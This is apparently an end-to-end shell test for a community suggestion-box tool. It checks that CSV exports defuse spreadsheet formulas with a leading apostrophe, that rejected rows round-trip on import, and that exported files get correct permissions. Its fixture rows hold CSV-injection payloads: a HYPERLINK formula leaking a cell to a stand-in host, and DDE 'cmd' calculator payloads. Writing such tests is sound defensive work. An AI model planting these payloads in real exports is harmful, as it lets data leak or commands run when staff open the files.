# Text from a suggestion box never becomes a live formula in a CSV file a
# clerk opens in Excel or WPS: every CSV consult writes puts a leading ' before
# a cell beginning with = + - @ TAB or CR (numbers stay numbers), and consult's
# importer reads such a file back to the original text, so the rejects file
# round-trips. Files with personal data are 0600 and public documents 0644,
# whatever the umask.
. "$CONSULT_SOURCE_DIR/tests/e2e/lib.sh"

PY=/usr/bin/python3
seed

# The hostile cells, as OWASP lists them, in an otherwise ordinary export of
# a suggestion box; the last row lacks its date and is set aside.
"$PY" - <<'EOF'
rows = [
    ("2026-11-01", '=HYPERLINK("http://x.example/?"&A1,"点我看详情")', "张三"),
    ("2026-11-02", "+cmd|' /C calc'!A0", "李四"),
    ("2026-11-03", "@SUM(1+1)*cmd|' /C calc'!A0", "王五"),
    ("2026-11-04", "-2+3 楼道灯不亮", "赵六"),
    ("2026-11-05", "\t=1+1", "钱七"),
    ("", "=1+1 没有日期的意见", "孙八"),
]
with open("box.csv", "w", encoding="utf-8", newline="") as f:
    f.write("日期,内容,姓名\r\n")
    for d, c, n in rows:
        c = '"' + c.replace('"', '""') + '"'
        f.write(f"{d},{c},{n}\r\n")
EOF

umask 000
ok import box.csv --community heping --skip-bad --rejects rejects.csv
[ "$(stat -c %a rejects.csv)" = 600 ] || fail "the rejects file is $(stat -c %a rejects.csv) under umask 000"

# check_csv FILE: no cell of FILE would run in a spreadsheet.
check_csv() {
  "$PY" - "$1" <<'EOF' || fail "a live formula in $1"
import csv, re, sys
number = re.compile(r"^[+-]?[0-9][0-9,]*(\.[0-9]+)?%?$")
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in csv.reader(f):
        for cell in row:
            if cell and cell[0] in "=+-@\t\r" and not number.match(cell):
                sys.exit(f"live cell: {cell!r}")
EOF
}
check_csv rejects.csv
grep -qF "'=1+1 没有日期的意见" rejects.csv || fail "the rejected row is not neutralised"

ok issue list --format csv
cp "$T/out" list.csv
check_csv list.csv
grep -qF "'=HYPERLINK" list.csv || fail "the formula is not kept as text"
grep -qF "'+cmd|" list.csv || fail "+cmd not neutralised"
grep -qF "'@SUM" list.csv || fail "@SUM not neutralised"
grep -qF "'-2+3" list.csv || fail "-2+3 not neutralised"
grep -qF "'=1+1" list.csv || fail "a TAB-prefixed formula came out live"
ok issue list --format csv --reveal
check_csv "$T/out"

# The rejects file round-trips: the clerk adds the date and deletes the two
# added columns (docs/import.md), and the text is stored as it was typed,
# without the apostrophe.
"$PY" - <<'EOF'
import csv
with open("rejects.csv", encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f))
header = rows[0]
assert header[-2:] == ["line", "reason"], header
d = header.index("日期")
for r in rows[1:]:
    r[d] = "2026-11-06"
with open("fixed.csv", "w", encoding="utf-8", newline="") as f:
    csv.writer(f).writerows(r[:-2] for r in rows)
EOF
ok import fixed.csv --community heping
ok issue list --format json
jq -r .title "$T/out" >titles
grep -qxF "=1+1 没有日期的意见" titles || fail "the rejected row did not read back to its text: $(cat titles)"
! grep -q "^'" titles || fail "an apostrophe was stored"

# Modes under umask 000: staff minutes 0600, public minutes and notices 0644,
# the agenda directory 0755, a backup 0600.
ok issue accept 4
ok meeting plan --community heping --kind council --at "2026-11-26 19:30" --venue 社区议事厅 \
  --issue 4
ok minutes export 1 --format md --out full.md
[ "$(stat -c %a full.md)" = 600 ] || fail "full minutes are $(stat -c %a full.md)"
ok minutes export 1 --format md --public --out public.md
[ "$(stat -c %a public.md)" = 644 ] || fail "public minutes are $(stat -c %a public.md)"
ok backup backup.db
[ "$(stat -c %a backup.db)" = 600 ] || fail "the backup is $(stat -c %a backup.db)"
ok agenda --week next --all --out-dir board/agenda
[ "$(stat -c %a board)" = 755 ] || fail "the agenda's parent is $(stat -c %a board)"
[ "$(stat -c %a board/agenda)" = 755 ] || fail "the agenda directory is $(stat -c %a board/agenda)"
for f in board/agenda/*; do
  [ "$(stat -c %a "$f")" = 644 ] || fail "$f is $(stat -c %a "$f")"
done
umask 022
echo ok
